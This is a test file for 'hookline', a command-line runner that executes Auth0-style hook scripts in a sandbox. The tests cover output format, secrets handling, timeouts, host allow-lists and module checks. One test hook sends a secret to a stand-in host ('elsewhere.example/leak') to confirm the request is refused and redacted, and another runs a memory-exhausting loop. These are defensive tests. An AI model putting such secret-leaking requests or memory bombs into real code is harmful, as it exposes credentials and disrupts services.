import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { cli } from './support/cli';
import { Receiver } from './support/receiver';

describe('hookline CLI', () => {
  let dir: string;
  const file = (name: string, text: string) => {
    writeFileSync(join(dir, name), text);
    return join(dir, name);
  };

  beforeAll(() => {
    dir = mkdtempSync(join(tmpdir(), 'hookline-cli-'));
  });
  afterAll(() => rmSync(dir, { recursive: true, force: true }));

  describe('run', () => {
    it("prints exactly one JSON object, with Auth0's starter payload by default", async () => {
      const hook = file('starter.js', `module.exports = function (user, context, cb) {
        console.log(user.email, context.connection.name, context.secrets.TOKEN);
        cb(null, { plan: user.app_metadata.plan, lang: context.requestLanguage });
      };`);
      const { code, stdout, stderr } = await cli('run', hook, '--json', '--secret', 'TOKEN=tok_123456');
      expect(code).toBe(0);
      expect(stderr).toBe('');
      expect(stdout.trim().split('\n')).toHaveLength(1);
      const output = JSON.parse(stdout);
      expect(Object.keys(output)).toEqual(['status', 'response', 'error', 'logs', 'durationMs', 'warnings', 'requests']);
      expect(output.requests).toEqual([]);
      expect(output).toMatchObject({
        status: 'ok',
        response: { plan: 'full', lang: 'en-us' },
        error: null,
        logs: [{ level: 'log', message: 'user1@foo.com Username-Password-Authentication [REDACTED]' }],
      });
      expect(typeof output.durationMs).toBe('number');
    });

    it('runs an Actions hook on a given event, and exits 1 when it fails', async () => {
      const hook = file('action.js', `exports.onExecutePostUserRegistration = async (event) => { throw new TypeError('no ' + event.user.email); };`);
      const event = file('event.json', JSON.stringify({ user: { id: 'u9', email: 'grace@example.com' }, context: {} }));
      const { code, stdout } = await cli('run', hook, '--event', event, '--json');
      expect(code).toBe(1);
      expect(JSON.parse(stdout)).toMatchObject({ status: 'error', error: { name: 'TypeError', message: 'no grace@example.com' } });
    });

    it('reports a timeout and a memory limit as statuses, and survives them', async () => {
      const never = file('never.js', 'module.exports = function (user, context, cb) {};');
      expect(JSON.parse((await cli('run', never, '--json', '--timeout-ms', '300')).stdout)).toMatchObject({ status: 'timeout' });
      const bomb = file('bomb.js', 'module.exports = async () => { const a = []; for (;;) a.push(new Array(1e5).fill({})); };');
      const result = await cli('run', bomb, '--json', '--memory-mb', '16');
      expect(result.code).toBe(1);
      expect(JSON.parse(result.stdout)).toMatchObject({ status: 'memory_limit' });
    });

    it('waits for work left running after cb, and reports its failure in the logs', async () => {
      const hook = file('late.js', `module.exports = function (user, context, cb) { fetch('https://not-allowed.example/'); cb(); };`);
      const { code, stdout } = await cli('run', hook, '--json', '--timeout-ms', '2000');
      expect(code).toBe(0);
      expect(JSON.parse(stdout)).toMatchObject({
        status: 'ok',
        logs: [
          { level: 'warn', message: '[hookline] fetch: host not-allowed.example:443 is not in allowHosts' },
          { level: 'warn', message: '[hookline] a request started by the hook failed after it completed: fetch: host not-allowed.example:443 is not in allowHosts' },
        ],
      });
    });

    it("lists the hook's requests: an allowed one with its status, a refused one with why, secrets redacted from URLs", async () => {
      const receiver = await Receiver.start();
      try {
        receiver.respond({ status: 201, body: 'ok' });
        const host = new URL(receiver.url).host;
        const hook = file('requests.js', `module.exports = async (user, context) => {
          const ok = await fetch('${receiver.url}/users?key=' + context.secrets.KEY, { method: 'POST', body: '{}' });
          const refused = await fetch('https://elsewhere.example/leak?k=' + context.secrets.KEY).then(() => 'sent', (e) => e.code);
          return [ok.status, refused];
        };`);
        const { code, stdout } = await cli('run', hook, '--json', '--allow-host', host, '--secret', 'KEY=sk_live_secret_123');
        expect(code).toBe(0);
        const output = JSON.parse(stdout);
        expect(output.response).toEqual([201, 'HOST_NOT_ALLOWED']);
        expect(output.requests).toEqual([
          { method: 'POST', url: `${receiver.url}/users?key=[REDACTED]`, status: 201, durationMs: expect.any(Number), refused: false, error: null },
          {
            method: 'GET',
            url: 'https://elsewhere.example/leak?k=[REDACTED]',
            status: null,
            durationMs: expect.any(Number),
            refused: true,
            error: 'fetch: host elsewhere.example:443 is not in allowHosts',
          },
        ]);
        expect(stdout).not.toContain('sk_live_secret_123');
        expect(receiver.requests.map((r) => r.path)).toEqual(['/users?key=sk_live_secret_123']);

        receiver.respond({ status: 201, body: 'ok' });
        const readable = await cli('run', hook, '--allow-host', host, '--secret', 'KEY=sk_live_secret_123');
        expect(readable.stdout).toContain(`requests:\n  POST ${receiver.url}/users?key=[REDACTED] -> 201 (`);
        expect(readable.stdout).toContain('  GET https://elsewhere.example/leak?k=[REDACTED] -> refused: fetch: host elsewhere.example:443 is not in allowHosts (');
      } finally {
        await receiver.close();
      }
    });

    it('prints a readable report without --json', async () => {
      const hook = file('readable.js', 'module.exports = async (user) => { console.warn("careful"); return user.username; };');
      const { code, stdout } = await cli('run', hook);
      expect(code).toBe(0);
      expect(stdout).toMatch(/^status: ok \(.+ ms\)\nlogs:\n {2}\[warn\] careful\nresponse .*\n {2}"user1"\n$/);
    });

    it.each([
      [['run', 'missing.js', '--json'], 'script not found: missing.js'],
      [['run', '__HOOK__', '--event', '__BAD_JSON__'], 'invalid JSON in'],
      [['run', '__HOOK__', '--secret', 'novalue'], '--secret expects KEY=VALUE'],
      [['run', '__HOOK__', '--timeout-ms', '60000'], '--timeout-ms expects an integer from 1 to 30000'],
      [['run', '__HOOK__', '--allow-host', 'http://x'], '--allow-host: expected a host name'],
      [['run'], "missing required argument 'script'"],
      [['rn', '__HOOK__'], "unknown command 'rn' (Did you mean run?)"],
      [['run', '__HOOK__', '--jsn'], "unknown option '--jsn' (Did you mean --json?)"],
      [['run', '__HOOK__', '--secrets-file', 'missing.env'], '--secrets-file: file not found: missing.env'],
      [['run', '__HOOK__', '--secrets-file', '__BAD_JSON__'], '--secrets-file: invalid JSON in'],
    ])('exits 2 with one line on stderr for %j', async (args, message) => {
      const hook = file('ok.js', 'module.exports = function (u, c, cb) { cb(); };');
      const bad = file('bad.json', '{ "user": ');
      const { code, stdout, stderr } = await cli(...args.map((a) => a.replace('__HOOK__', hook).replace('__BAD_JSON__', bad)));
      expect(code).toBe(2);
      expect(stdout).toBe('');
      expect(stderr.trim().split('\n')).toHaveLength(1);
      expect(stderr).toContain(message);
    });
  });

  describe('secrets', () => {
    const hook = () => file('secrets.js', 'module.exports = async (user, context) => [context.secrets.A, context.secrets.B, context.secrets.C];');

    it('reads a .json file of strings, and --secret overrides it', async () => {
      const secrets = file('secrets.json', JSON.stringify({ A: 'json-a', B: 'json-b' }));
      const { code, stdout } = await cli('run', hook(), '--json', '--secrets-file', secrets, '--secret', 'B=flag-b');
      expect(code).toBe(0);
      expect(JSON.parse(stdout)).toMatchObject({ status: 'ok', response: ['json-a', 'flag-b', null] });
    });

    it('reads any other file as dotenv (comments, quotes, export-less KEY=VALUE)', async () => {
      const secrets = file('hook.env', '# the hook\'s secrets\nA=env-a\nB="quoted b"\nC=\'c=d\'\n');
      const { stdout } = await cli('run', hook(), '--json', '--secrets-file', secrets);
      expect(JSON.parse(stdout)).toMatchObject({ status: 'ok', response: ['env-a', 'quoted b', 'c=d'] });
    });

    it('refuses a JSON file whose values are not strings, naming the key', async () => {
      const secrets = file('numbers.json', JSON.stringify({ A: 1 }));
      const { code, stderr } = await cli('run', hook(), '--json', '--secrets-file', secrets);
      expect(code).toBe(2);
      expect(stderr).toContain('the value of A must be a string');
    });
  });

  it('prints its version', async () => {
    const { code, stdout } = await cli('--version');
    expect(code).toBe(0);
    expect(stdout.trim()).toMatch(/^\d+\.\d+\.\d+/);
  });

  describe('validate', () => {
    it('exits 0 with a summary of tenants and consumers', async () => {
      file('hook.js', 'module.exports = function (u, c, cb) { cb(); };');
      const config = file('ok.yaml', 'tenants:\n  acme:\n    hooks:\n      - script: hook.js\n  globex: {}\n');
      const { code, stdout } = await cli('validate', config);
      expect(code).toBe(0);
      expect(stdout).toContain('2 tenant(s), 1 consumer(s) enabled');
      expect(stdout).toContain('acme/hook/hook (timeout 10000 ms');
    });

    it('exits 1 listing every error, a script syntax error with its file and line', async () => {
      file('broken.js', 'module.exports = function () {\n  return ;;\n  }}\n');
      const config = file('bad.yaml', 'tenants:\n  acme:\n    hooks:\n      - script: broken.js\n      - script: hook.js\n        timeoutMs: 60000\n    connectors:\n      - type: nope\n');
      const { code, stderr } = await cli('validate', config);
      expect(code).toBe(1);
      expect(stderr).toContain('3 problems');
      expect(stderr).toMatch(/tenants\.acme\.hooks\[0\]\.script: .*broken\.js line 3: SyntaxError/);
      expect(stderr).toContain('tenants.acme.hooks[1].timeoutMs: expected at most 30000 ms for a hook');
      expect(stderr).toContain('tenants.acme.connectors[0].type: unknown connector type "nope"');
    });

    it('reports unsupported require()s per script with file and line, and warns about other versions', async () => {
      file('aws.js', "const axios = require('axios');\nconst AWS = require('aws-sdk');\nconst fs = require('fs');\nmodule.exports = function (u, c, cb) { cb(); };\n");
      file('versioned.js', "const axios = require('axios@0.19.0');\nmodule.exports = async () => axios;\n");
      const bad = file('requires.yaml', 'tenants:\n  acme:\n    hooks:\n      - script: aws.js\n      - script: versioned.js\n');
      const failed = await cli('validate', bad);
      expect(failed.code).toBe(1);
      expect(failed.stderr).toMatch(/tenants\.acme\.hooks\[0\]\.script: .*aws\.js:2:13: Cannot require "aws-sdk" in a Hookline hook: this module is not supported\. Supported modules: axios, /);
      expect(failed.stderr).toMatch(/aws\.js:3:12: Cannot require "fs" in a Hookline hook: Node built-in modules are not available in the sandbox/);
      expect(failed.stderr).not.toContain('versioned.js');
      const ok = await cli('validate', file('versioned.yaml', 'tenants:\n  acme:\n    hooks:\n      - script: versioned.js\n'));
      expect(ok.code).toBe(0);
      expect(ok.stdout).toMatch(/ {6}warning: .*versioned\.js:1:15: require\('axios@0\.19\.0'\): Hookline provides axios 1\.\d+\.\d+; using it instead of 0\.19\.0/);
    });
  });

  describe('conditional require() of a module the sandbox lacks', () => {
    const guarded = [
      'let sharp = null;',
      'try {',
      "  sharp = require('sharp');",
      '} catch (err) {',
      "  console.log('optional', err.code);",
      '}',
      'module.exports = async function (user) {',
      "  if (user.email.endsWith('@aws.example')) require('aws-sdk');",
      "  return [sharp, typeof require('crypto').createHash];",
      '};',
    ].join('\n');

    it('runs: the Runner lists a warning per require with its line, and the guarded one throws MODULE_NOT_FOUND', async () => {
      const output = JSON.parse((await cli('run', file('guarded.js', guarded), '--json')).stdout);
      expect(output).toMatchObject({ status: 'ok', response: [null, 'function'] });
      expect(output.warnings).toEqual([
        { code: 'CONDITIONAL_REQUIRE_NOT_SUPPORTED', line: 3, column: 11, message: expect.stringMatching(/guarded\.js:3:11: Cannot require "sharp" in a Hookline hook: this module is not supported\..* if it runs, require\(\) throws an error with code 'MODULE_NOT_FOUND'\.$/) },
        { code: 'CONDITIONAL_REQUIRE_NOT_SUPPORTED', line: 8, column: 44, message: expect.stringContaining('Cannot require "aws-sdk"') },
      ]);
      expect(output.logs).toContainEqual({ level: 'log', message: 'optional MODULE_NOT_FOUND' });
    });

    it('fails the hook with the error when the unguarded path runs', async () => {
      const event = file('aws-user.json', JSON.stringify({ user: { id: 'u1', email: 'ada@aws.example' } }));
      const output = JSON.parse((await cli('run', file('guarded2.js', guarded), '--json', '--event', event)).stdout);
      expect(output).toMatchObject({ status: 'error', error: { name: 'Error', message: expect.stringMatching(/^Cannot require "aws-sdk" in a Hookline hook: this module is not supported\./) } });
    });

    it('validates with warnings naming file and line; a top-level unconditional require still fails', async () => {
      file('guarded3.js', guarded);
      const ok = await cli('validate', file('guarded.yaml', 'tenants:\n  acme:\n    hooks:\n      - script: guarded3.js\n'));
      expect(ok.code).toBe(0);
      expect(ok.stdout).toMatch(/ {6}warning: .*guarded3\.js:3:11: Cannot require "sharp"/);
      expect(ok.stdout).toMatch(/ {6}warning: .*guarded3\.js:8:44: Cannot require "aws-sdk"/);
      file('top.js', "const sharp = require('sharp');\nmodule.exports = async () => sharp;\n");
      const failed = await cli('validate', file('top.yaml', 'tenants:\n  acme:\n    hooks:\n      - script: top.js\n'));
      expect(failed.code).toBe(1);
      expect(failed.stderr).toMatch(/top\.js:1:15: Cannot require "sharp"/);
    });
  });

  describe('run: unsupported modules', () => {
    it('reports them with file and line before the hook runs (it never starts)', async () => {
      const hook = file('unsupported.js', "const marker = fetch('http://127.0.0.1:9/never');\nconst jwt = require('jsonwebtoken');\nmodule.exports = function (u, c, cb) { cb(); };\n");
      const { code, stdout } = await cli('run', hook, '--json');
      expect(code).toBe(1);
      const output = JSON.parse(stdout);
      expect(output).toMatchObject({ status: 'error', response: null, logs: [], durationMs: 0 });
      expect(output.error.name).toBe('ModuleNotSupportedError');
      expect(output.error.message).toMatch(/unsupported\.js:2:13: Cannot require "jsonwebtoken" in a Hookline hook: this module is not supported\. Supported modules: axios, @slack\/webhook, graphql-request, lodash, node-fetch, request, request-promise, slack-notify\./);
    });

    it('loads every module for a require() with a computed name, warns about it first, and fails clearly on an unsupported one', async () => {
      const hook = file('computed.js', "const pick = (name) => require(name);\nmodule.exports = async () => { const _ = pick('lo' + 'dash'); try { pick('aws-' + 'sdk'); } catch (e) { return [typeof _.chunk, e.code]; } };\n");
      const output = JSON.parse((await cli('run', hook, '--json')).stdout);
      expect(output).toMatchObject({ status: 'ok', response: ['function', 'MODULE_NOT_FOUND'] });
      expect(output.logs[0]).toEqual({ level: 'warn', message: expect.stringMatching(/computed\.js:1:24: require\(\) with a computed name cannot be checked before the hook runs/) });
    });

    it('runs a bare function, an ES module and an Actions ES module, with web globals', async () => {
      const bare = file('bare.js', "function (user, context, cb) {\n  cb(null, new URL('/u/' + user.id, 'https://x.example').pathname + ' ' + btoa('a:b'));\n}\n");
      expect(JSON.parse((await cli('run', bare, '--json')).stdout)).toMatchObject({ status: 'ok', response: '/u/abc123 YTpi' });
      const esm = file('esm.mjs', "import _ from 'lodash';\nexport default async function (user, context) { return [_.get(user, 'app_metadata.plan'), context.webtask.meta['hookline-hook'], context.webtask.headers['x-hookline-event-id'], context.webtask.data.K, context.secrets.K]; }\n");
      expect(JSON.parse((await cli('run', esm, '--json', '--secret', 'K=v')).stdout)).toMatchObject({ status: 'ok', response: ['full', 'esm.mjs', 'evt_runner', 'v', 'v'] });
      const action = file('action.mjs', "export const onExecutePostUserRegistration = async (event) => { console.log(event.secrets.KEY.length, new TextEncoder().encode('é').length); };\n");
      expect(JSON.parse((await cli('run', action, '--json', '--secret', 'KEY=abcdef')).stdout)).toMatchObject({ status: 'ok', logs: [{ level: 'log', message: '6 2' }] });
    });
  });
});
